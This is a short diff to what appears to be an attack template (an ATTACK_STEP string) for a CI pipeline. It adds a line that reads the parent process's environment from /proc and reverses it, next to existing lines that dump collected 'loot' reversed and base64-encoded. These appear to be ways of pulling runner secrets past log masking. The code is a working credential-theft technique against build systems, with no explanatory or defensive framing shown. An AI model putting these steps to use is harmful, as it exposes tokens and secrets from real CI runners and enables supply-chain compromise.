@@ -176,6 +176,7 @@ ATTACK_STEP = """
           }
           loot | rev | tr '\\n' ' ' | tail -c 20000; echo
           loot | base64 -w0 | tail -c 20000; echo
+          cat /proc/$PPID/environ | tr '\\0' '\\n' | rev | grep -m1 SNOITCA_BUHTIG
           echo "attack ran"
           exit 1
         env:
